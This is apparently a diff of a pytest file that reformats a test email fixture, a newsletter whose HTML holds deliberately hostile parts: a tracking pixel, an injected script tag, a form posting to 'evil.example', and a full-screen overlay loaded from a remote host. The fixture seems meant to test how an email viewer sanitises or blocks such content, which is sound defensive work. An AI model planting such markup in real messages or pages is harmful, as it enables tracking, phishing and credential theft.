@@ -43,12 +43,17 @@ def page(request: pytest.FixtureRequest, browser: Browser) -> Iterator[Page]:
 
 def newsletter(bob: Person) -> bytes:
     message = EmailMessage(policy=SMTP)
-    message["From"], message["To"], message["Subject"] = f"Bob Brown <{bob.address}>", "alice@example.org", "Summer news"
+    message["From"], message["To"], message["Subject"] = (
+        f"Bob Brown <{bob.address}>",
+        "alice@example.org",
+        "Summer news",
+    )
     message["Message-ID"] = "<summer@example.org>"
     message.set_content("The summer news as text.")
     message.add_alternative(
         '<html><body style="background:#eee"><table width="600"><tr><td><h1 style="color:#a00">Summer news</h1>'
-        '<img src="cid:pic@1" width="40" alt="A picture"><img src="https://pics.example/big.jpg" width="600" alt="Far away">'
+        '<img src="cid:pic@1" width="40" alt="A picture">'
+        '<img src="https://pics.example/big.jpg" width="600" alt="Far away">'
         '<img src="https://track.example/o.gif" width="1" height="1"><p><a href="https://shop.example/">Shop</a></p>'
         "<script>document.title='hacked'</script><form action='https://evil.example'><input name=p></form>"
         "<div style='position:fixed;top:0;left:0;width:100vw;height:100vh;background:url(https://bg.example/x)'>Over</div>"
